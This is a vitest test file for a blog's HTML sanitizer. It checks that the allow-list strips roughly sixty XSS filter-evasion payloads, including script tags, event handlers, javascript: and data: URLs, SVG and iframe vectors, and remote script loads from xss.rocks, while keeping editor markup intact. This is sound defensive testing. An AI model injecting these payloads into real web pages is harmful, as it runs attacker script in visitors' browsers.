import { DomUtils, parseDocument } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { sanitizePostHtml } from "./sanitize";

const allowedAttributes: Record<string, readonly string[]> = {
  p: [],
  h2: [],
  h3: [],
  h4: [],
  strong: [],
  em: [],
  a: ["href", "title", "rel"],
  ul: [],
  ol: [],
  li: [],
  blockquote: [],
  pre: [],
  code: ["class"],
  span: ["class"],
  img: ["src", "alt", "width", "height"],
  br: [],
  hr: [],
};

/** Checks the output the way a browser would meet it: every element and attribute allow-listed. */
function expectSafe(output: string) {
  expect(output).not.toMatch(
    /<\s*\/?\s*(script|iframe|svg|math|style|object|embed|form|meta|base|link|body|table|details|noscript|textarea)\b/i,
  );
  expect(output).not.toMatch(/\son\w+\s*=/i);
  expect(output).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(output).not.toMatch(/style\s*=|srcdoc|expression\(/i);
  for (const element of DomUtils.findAll(() => true, parseDocument(output))) {
    const allowed = allowedAttributes[element.name];
    expect(allowed, `element <${element.name}>`).toBeDefined();
    for (const name of Object.keys(element.attribs)) expect(allowed).toContain(name);
    const href = element.attribs.href;
    if (href !== undefined) expect(href).toMatch(/^(https?:\/\/|mailto:|\/(?![/\\]))/);
    const src = element.attribs.src;
    if (src !== undefined) expect(src).toMatch(/^\/(media|images)\//);
    if (element.attribs.class !== undefined) {
      expect(element.attribs.class).toMatch(
        /^(language-[a-z0-9+#-]+|hljs-[a-z_-]+( hljs-[a-z_-]+)*)$/,
      );
    }
  }
}

// OWASP XSS filter-evasion cheat sheet, plus mutation-XSS and URL tricks aimed at this allow-list.
const payloads: readonly string[] = [
  `<script>alert('XSS')</script>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror=alert(1)>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">decimal</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">hex</a>`,
  `<a href="jav\tascript:alert('XSS');">raw tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">tab</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">newline</a>`,
  `<a href="jav&#x0D;ascript:alert('XSS');">return</a>`,
  `<a href="java\0script:alert(1)">nul</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">leading junk</a>`,
  `<a href="   javascript:alert(1)">leading spaces</a>`,
  `<a href="JaVaScRiPt:alert(1)">case</a>`,
  `<a href="javascript&colon;alert(1)">named colon</a>`,
  `<a href="vbscript:msgbox('XSS')">vbscript</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="//evil.example/">protocol relative</a>`,
  `<a href="/\\evil.example/">backslash</a>`,
  `<a href="/&#x09;/evil.example/">tab between slashes</a>`,
  `<svg onload=alert(1)>`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<iframe src="javascript:alert('XSS');"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<p style="background-image: url(javascript:alert('XSS'))">styled</p>`,
  `<div style="width: expression(alert('XSS'));">ie expression</div>`,
  `<style>@import'http://xss.rocks/xss.css';</style>`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<link rel="stylesheet" href="javascript:alert('XSS');">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert('XSS');">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<img src="data:image/svg+xml;base64,PHN2Zy8+">`,
  `<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml">`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<base href="javascript:alert('XSS');//">`,
  `<BODY ONLOAD=alert('XSS')>body`,
  `<table background="javascript:alert('XSS')"><tr><td>cell</td></tr></table>`,
  `<details open ontoggle=alert(1)>details</details>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<img src="/media/../../etc/passwd-1.webp">`,
  `<img src="/images/../api/admin/logout">`,
  `<img src="https://evil.example/track.gif">`,
  `<img src="/media/ok-960.webp" onerror="alert(1)" alt="ok">`,
  `<a href="https://ok.example/" onclick="alert(1)" style="color:red" target="_top">ok</a>`,
  `<code class="language-ts hljs evil" onmouseover="alert(1)">code</code>`,
  `<span class="hljs-string" onmouseover=alert(1)>outside code</span>`,
];

describe("sanitizePostHtml against XSS filter evasion", () => {
  it.each(payloads)("neutralises %s", (payload) => {
    const output = sanitizePostHtml(payload);
    expectSafe(output);
    expect(sanitizePostHtml(output)).toBe(output);
  });

  it("keeps the harmless part of a hostile element", () => {
    expect(sanitizePostHtml(`<img src="/media/ok-960.webp" onerror="alert(1)" alt="ok">`)).toBe(
      `<img src="/media/ok-960.webp" alt="ok" />`,
    );
    expect(sanitizePostHtml(`<a href="JaVaScRiPt:alert(1)">case</a>`)).toBe("case");
    expect(sanitizePostHtml(`<p style="color:red" onclick="x()">styled</p>`)).toBe("<p>styled</p>");
    expect(sanitizePostHtml(`<code class="language-ts hljs evil">x</code>`)).toBe(
      `<code class="language-ts">x</code>`,
    );
  });

  it("escapes markup smuggled inside an attribute value", () => {
    const output = sanitizePostHtml(
      `<a href="/ok" title="&quot;><img src=x onerror=alert(1)>">t</a>`,
    );
    expect(output).toBe(`<a href="/ok" title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">t</a>`);
    expect(DomUtils.findAll(() => true, parseDocument(output)).map((e) => e.name)).toEqual(["a"]);
  });
});

describe("sanitizePostHtml on editor content", () => {
  const document = [
    `<h2>Getting started</h2>`,
    `<p>Read <strong>this</strong> and <em>that</em>, see <a href="https://example.com/docs" rel="noopener noreferrer nofollow">the docs</a>, `,
    `<a href="/courses/react">our course</a> or <a href="mailto:training@example.in" title="Mail us">mail us</a>.</p>`,
    `<ul><li><p>one</p></li><li><p>two</p></li></ul><ol><li><p>first</p></li></ol>`,
    `<blockquote><p>A quote</p></blockquote>`,
    `<pre><code class="language-ts">const x: number = 1 &lt; 2 ? 1 : 0;\nconsole.log(x &amp;&amp; "y");</code></pre>`,
    `<img src="/media/abc123-960.webp" alt="A cat on a keyboard" width="960" height="640" />`,
    `<h3>More</h3><h4>Even more</h4><p>line<br />break</p><hr />`,
    `<img src="/images/blog/one-page-resume-for-freshers.svg" alt="" />`,
  ].join("");

  it("keeps everything the editor produces, unchanged", () => {
    expect(sanitizePostHtml(document)).toBe(document);
  });

  it("is idempotent", () => {
    const once = sanitizePostHtml(document + payloads.join(""));
    expect(sanitizePostHtml(once)).toBe(once);
  });

  it("writes void elements in one form only", () => {
    expect(sanitizePostHtml(`<p>a<br>b</p><hr><img src="/media/a-480.avif" alt="x">`)).toBe(
      `<p>a<br />b</p><hr /><img src="/media/a-480.avif" alt="x" />`,
    );
  });

  it("marks external links and only them", () => {
    expect(sanitizePostHtml(`<a target="_blank" href="https://example.com">x</a>`)).toBe(
      `<a href="https://example.com" rel="noopener noreferrer nofollow">x</a>`,
    );
    expect(sanitizePostHtml(`<a href="/blog" rel="noopener noreferrer nofollow">x</a>`)).toBe(
      `<a href="/blog">x</a>`,
    );
    expect(sanitizePostHtml(`<a href="mailto:a@example.com" rel="me">x</a>`)).toBe(
      `<a href="mailto:a@example.com">x</a>`,
    );
  });

  it("drops tags outside the list but keeps their text", () => {
    expect(sanitizePostHtml(`<h1>Title</h1><div><u>under</u> <s>struck</s></div>`)).toBe(
      "Titleunder struck",
    );
  });

  it("refuses image sizes that are not plain numbers", () => {
    expect(sanitizePostHtml(`<img src="/media/a-960.webp" alt="" width="960" height="540x">`)).toBe(
      `<img src="/media/a-960.webp" alt="" width="960" />`,
    );
  });

  it("allows highlight spans inside code only", () => {
    const inside = `<pre><code class="language-ts"><span class="hljs-keyword">const</span> x</code></pre>`;
    expect(sanitizePostHtml(inside)).toBe(inside);
    expect(sanitizePostHtml(`<p><span class="hljs-keyword">a</span><br>b</p>`)).toBe(
      "<p>a<br />b</p>",
    );
    expect(sanitizePostHtml(`<code><span class="other">a</span></code>`)).toBe("<code>a</code>");
  });
});
